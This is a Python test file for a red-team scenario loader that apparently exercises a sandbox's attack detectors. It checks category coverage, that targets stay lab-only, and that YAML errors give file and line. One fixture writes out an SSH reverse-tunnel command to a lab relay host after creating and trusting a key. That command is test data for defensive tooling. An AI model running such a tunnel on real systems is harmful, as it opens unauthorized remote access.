"""Scenario files: the built-in set's coverage, and errors that name file and line."""

from __future__ import annotations

from pathlib import Path

import pytest

from bastion.redteam import CATEGORIES, ScenarioError, load_builtin, load_file, select


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "s.yaml"
    path.write_text(text)
    return path


GOOD = """\
scenarios:
  - id: attack.x
    kind: attack
    steps:
      - exec: echo hi
        call: c1
    expect: {category: mining, charged_to: c1}
"""


def test_builtin_set_covers_the_issue() -> None:
    scenarios = load_builtin()
    benign = [s for s in scenarios if s.kind == "benign"]
    attacks = [s for s in scenarios if s.kind == "attack"]
    assert len(benign) >= 40
    assert len(attacks) >= 60
    for category in CATEGORIES:
        variants = {s.variant for s in attacks if s.category == category}
        assert variants == {"plain", "evasive"}, category
    fast = select(scenarios, suite="fast")
    assert {s.category for s in fast if s.kind == "attack"} == set(CATEGORIES)
    assert all("full" in s.suites for s in scenarios)


def test_attack_targets_are_lab_hosts_only() -> None:
    """Network safety: an attack may name only the lab's documentation-range hosts."""
    import re

    from bastion.lab.topology import DNS_IP

    allowed = {"203.0.113.22", "203.0.113.33", "203.0.113.80", "203.0.113.81", "127.0.0.1",
               "0.0.0.0", DNS_IP}
    for sc in load_builtin():
        for step in sc.steps:
            text = step.command + step.content
            for ip in re.findall(r"\b\d{1,3}(?:\.\d{1,3}){3}\b", text):
                assert ip in allowed or ip.startswith("203.0.113."), (sc.id, ip)
            for name in re.findall(r"\b[\w.-]+\.(?:com|net|org|io|xyz)\b", text):
                assert name.endswith("example.com"), (sc.id, name)


def test_select_by_category_variant_and_glob() -> None:
    scenarios = load_builtin()
    mining_evasive = select(scenarios, patterns=["mining", "evasive"])
    assert mining_evasive and all(s.category == "mining" and s.variant == "evasive"
                                  for s in mining_evasive)
    assert [s.id for s in select(scenarios, patterns=["attack.tunnels.ssh_reverse"])] == [
        "attack.tunnels.ssh_reverse"]
    assert all(s.kind == "benign" for s in select(scenarios, patterns=["benign"]))


def test_good_file_loads(tmp_path: Path) -> None:
    (sc,) = load_file(write(tmp_path, GOOD))
    assert sc.id == "attack.x" and sc.line == 2
    assert sc.expect.charged_to == ("c1",) and sc.expect.forbidden == ("ssh", "pool", "denied")
    assert sc.suites == ("full",)


@pytest.mark.parametrize("text,line,needle", [
    (GOOD.replace("    kind: attack\n", "    kind: attack\n    kinds: x\n"), 4,
     "kinds: unknown key"),
    (GOOD.replace("category: mining", "category: minnig"), 7, "expect.category"),
    (GOOD.replace("charged_to: c1", "charged_to: c9"), 7, "'c9' is not a call"),
    (GOOD.replace("        call: c1\n", "        call: c1\n        timout: 3\n"), 7,
     "steps[0].timout: unknown key"),
    (GOOD.replace("      - exec: echo hi\n", "      - wait: -1\n"), 5, "wait: seconds"),
    (GOOD + GOOD.replace("scenarios:\n", ""), 8, "duplicate id"),
    (GOOD.replace("    expect: {", "    expect: {{"), 8, "expected"),
    (GOOD.replace("kind: attack", "kind: benign").replace(
        "{category: mining, charged_to: c1}", "{alerts: {x.y: ''}}"), 7, "expect.alerts"),
    (GOOD.replace("    steps:\n", "    allow: [{domain: relay.allowed.lab.test, prot: ssh}]\n"
                  "    steps:\n"), 4, "allow: unknown key 'prot'"),
    (GOOD.replace("    steps:\n", "    allow: [{domain: relay.allowed.lab.test, port: 22, "
                  "protocol: telepathy}]\n    steps:\n"), 4, "allow: "),
    (GOOD.replace("      - exec: echo hi\n", "      - trust_key: /etc/ssh/key.pub\n"
                  "      - exec: echo hi\n"), 5, "trust_key: a public key file under /workspace/"),
])
def test_errors_name_file_and_line(tmp_path: Path, text: str, line: int, needle: str) -> None:
    path = write(tmp_path, text)
    with pytest.raises(ScenarioError) as info:
        load_file(path)
    message = str(info.value)
    assert message.startswith(f"{path}:{line}:"), message
    assert needle in message


ALLOWED_SSH = """\
scenarios:
  - id: attack.y
    kind: attack
    allow: [{domain: relay.allowed.lab.test, port: 22, protocol: ssh}]
    steps:
      - exec: ssh-keygen -q -N '' -f /workspace/id
        call: c0
      - trust_key: /workspace/id.pub
      - exec: ssh -R 9000:localhost:22 root@relay.allowed.lab.test
        call: c1
    expect: {category: tunnels, charged_to: c1}
"""


def test_allow_entries_reach_every_phase_of_the_policy(tmp_path: Path) -> None:
    """A scenario's ``allow:`` is what its session's policy grants on top of the
    scorecard's, in every network phase; ``trust_key`` is a step but not a call."""
    from bastion import Policy
    from bastion.redteam import base_policy
    from bastion.redteam.runner import with_allow

    (sc,) = load_file(write(tmp_path, ALLOWED_SSH))
    assert sc.allow == ({"domain": "relay.allowed.lab.test", "port": 22, "protocol": "ssh"},)
    assert [s.kind for s in sc.steps] == ["exec", "trust_key", "exec"]
    assert sc.call_ids() == ["c0", "c1"]
    base = base_policy()
    data = with_allow(base, sc.allow)
    phases = data["network"]["phases"]
    assert all(sc.allow[0] in phase["allow"] for phase in phases.values())
    assert all(sc.allow[0] not in phase["allow"] for phase in base["network"]["phases"].values())
    Policy.from_dict(data, source="test")  # a valid policy


STRICT = """\
scenarios:
  - id: attack.z
    kind: attack
    policy: {rules: {detectors: {background_kill_cpu_seconds: 2}}}
    steps:
      - exec: echo hi
        call: c1
    expect: {category: mining, charged_to: c1}
"""


def test_policy_patch_is_merged_and_checked_at_load(tmp_path: Path) -> None:
    """A scenario's ``policy:`` is deep-merged into the scorecard policy (the network
    section stays); a setting the policy does not know is an error naming the line."""
    from bastion import Policy
    from bastion.redteam import base_policy
    from bastion.redteam.runner import merge_policy

    (sc,) = load_file(write(tmp_path, STRICT))
    data = merge_policy(base_policy(), sc.policy)
    policy = Policy.from_dict(data, source="test")
    assert policy.rules.detectors.background_kill_cpu_seconds == 2
    assert data["network"] == base_policy()["network"]
    assert "rules" not in base_policy()
    bad = STRICT.replace("background_kill_cpu_seconds", "background_kill_cpu_secs")
    with pytest.raises(ScenarioError, match=r"s.yaml:4: scenario attack.z: policy:"):
        load_file(write(tmp_path, bad))
